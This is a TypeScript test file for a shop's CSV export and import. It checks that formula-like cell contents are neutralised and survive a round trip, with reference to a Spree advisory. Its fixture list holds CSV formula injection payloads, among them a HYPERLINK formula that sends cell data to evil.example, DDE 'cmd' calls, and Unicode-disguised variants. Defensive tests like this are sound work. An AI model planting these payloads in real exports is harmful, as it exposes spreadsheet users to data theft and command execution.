import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { system } from "#domain/actor.ts";
import { deleteProducts } from "#domain/catalog/catalog.ts";
import { placeOrder } from "#domain/checkout/checkout.ts";
import { csvLine, readCell, safeCell } from "#domain/csv-line.ts";
import { ordersCsv } from "#src/cli/export/export-orders.ts";
import { productsCsv } from "#src/cli/export/export-products.ts";
import { importFile } from "#src/cli/import/import-run.ts";
import { makeCheckout } from "#support/make-checkout.ts";
import { makeVariant } from "#support/make-variants.ts";
import { useTestShop } from "#support/test-shop.ts";

const shopOf = useTestShop();

const formulas = [
  '=HYPERLINK("https://evil.example?x="&A1,"Open")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  '=1+1","x',
  "'=1+1",
  "''=1+1",
  "-",
  "=",
  "\uFF1DSUM(1+1)",
  "\uFF0B1+1",
  "\uFF0D1+1",
  "\uFF20SUM(1+1)",
  "\uFE661+1",
  "\u22121+1",
  " =1+1",
  "\u00A0=1+1",
  "\u3000\uFF1D1+1",
  "\u200B=1+1",
  "\u200D\u2060@SUM(1+1)",
  "\uFEFF=1+1",
  "\u202E=1+1",
  "\u00AD+1+1",
  "\u0000=1+1",
  "\u001B=1+1",
  "\n=1+1",
  "\u3164=1+1",
  "\u2800=1+1",
  "\uFE0F=1+1",
  "'\u200B=1+1",
  "\u200B'=1+1",
];
/** Whether a spreadsheet runs the cell: without invisible characters and with plain signs it begins with one of these, and it is no plain number. */
const isRun = (cell: string) =>
  /^[=+\-@\t\r]/.test(cell) ||
  (/^[=+\-@\u2212]/.test(cell.normalize("NFKC").replaceAll(/[\s\p{C}\p{Z}\p{Default_Ignorable_Code_Point}\u2800]/gu, "")) && !cell.startsWith("'"))
    ? !/^-?\d+(\.\d+)?$/.test(cell)
    : false;

async function linesOf(lines: AsyncIterable<string>): Promise<string[]> {
  const all: string[] = [];
  for await (const line of lines) all.push(line);
  return all;
}

async function cellsOf(lines: AsyncIterable<string>): Promise<string[]> {
  return parse((await linesOf(lines)).join(""), { relax_column_count: true }).flat();
}

describe("an exported cell", () => {
  it.each(formulas)("runs nothing in a spreadsheet: %j (Spree GHSA-xf4v-w5x5-pv79)", (text) => {
    expect(isRun(safeCell(text))).toBe(false);
    expect(readCell(safeCell(text))).toBe(text);
    const [cells] = parse(csvLine([text, "next"])) as string[][];
    expect(cells).toEqual([safeCell(text), "next"]);
  });

  it("comes back as it was, whatever it holds (Spree GHSA-xf4v-w5x5-pv79, and its round trip)", () => {
    const signs = ["'", "=", "+", "-", "@", "\t", "\r", "1", ".", "a", " ", "\n", '"', ",", ";", "\uFF1D", "\u200B", "\uFEFF"];
    const texts = signs.flatMap((one) => signs.flatMap((two) => signs.flatMap((three) => [one, one + two, one + two + three])));
    for (const text of texts) {
      expect([text, readCell(safeCell(text))]).toEqual([text, text]);
      expect([text, isRun(safeCell(text))]).toEqual([text, false]);
    }
  });

  it("stands in quotes, whatever it holds, so that no separator of another country splits it", () => {
    expect(csvLine(["", "plain", 'a;b\t"c"', "-5"])).toBe('"","plain","a;b\t""c""","-5"\r\n');
  });

  it("of a product comes back unharmed by an import, also where its words begin like a formula", async () => {
    const shop = shopOf();
    for (const title of ["=1+1", "-20 \u00B0C freezer", "+4 refrigerator", "@home kit", "\uFF1DSUM(1)", "\u200B=1", "'=quoted", "-5", "5 \u2212 3"])
      await makeVariant(shop, { title, sku: `${title} sku` });
    const folder = mkdtempSync(join(tmpdir(), "meniscus-cells-"));
    const file = join(folder, "products.csv");
    const exportAll = async () => writeFileSync(file, (await linesOf(productsCsv(shop))).join(""));
    // Exports and imports once, so that rows that tests wrote directly to the tables are as an import writes them.
    await exportAll();
    await importFile(shop, system, file, { check: false, stock: null });
    await exportAll();
    const titles = () => shop.sql`select p.title, v.sku from products p join variants v on v.product_id = p.id order by p.id`;
    const before = await titles();
    const report = await importFile(shop, system, file, { check: false, stock: null });
    expect(report).toMatchObject({ created: 0, updated: 0, unchanged: 9, faultCount: 0, fileFault: null });
    expect(await titles()).toEqual(before);
    // The same file also restores the products once they are gone.
    await deleteProducts(
      shop,
      system,
      (await shop.sql<{ id: string }[]>`select id from products`).map(({ id }) => id),
    );
    await importFile(shop, system, file, { check: false, stock: null });
    const sorted = (rows: Iterable<object>) => [...rows].map((row) => JSON.stringify(row)).sort();
    expect(sorted(await titles())).toEqual(sorted(before));
    rmSync(folder, { recursive: true });
  });

  it("of an order is safe wherever a buyer may write: name, company, street, number of a purchase order (Spree GHSA-xf4v-w5x5-pv79)", async () => {
    const shop = shopOf();
    const evil = "=cmd|' /C calc'!A0";
    const address = { firstName: evil, lastName: evil, company: evil, address1: evil, address2: evil, city: evil };
    const made = await makeCheckout(shop, [await makeVariant(shop, { title: evil, sku: evil })], { address });
    await placeOrder(shop, made.shopper, made.request);
    const cells = await cellsOf(ordersCsv(shop));
    expect(cells.filter((cell) => cell.includes("calc")).length).toBeGreaterThan(5);
    expect(cells.filter(isRun)).toEqual([]);
  });

  it("of a product is safe wherever a file may have written, names of foreign columns too (Spree GHSA-xf4v-w5x5-pv79)", async () => {
    const shop = shopOf();
    const evil = "@SUM(1+1)";
    const variant = await makeVariant(shop, { title: evil, sku: evil });
    await shop.sql`update products set vendor = ${evil}, tags = ${[evil]}, seo_title = ${evil}, description_html = ${evil} where id = ${variant.productId}`;
    await shop.sql`update variants set extra = ${JSON.stringify({ [evil]: evil })}::jsonb, barcode = ${evil} where id = ${variant.id}`;
    const cells = await cellsOf(productsCsv(shop));
    expect(cells.filter((cell) => cell.includes("SUM")).length).toBeGreaterThan(7);
    expect(cells.filter(isRun)).toEqual([]);
  });
});
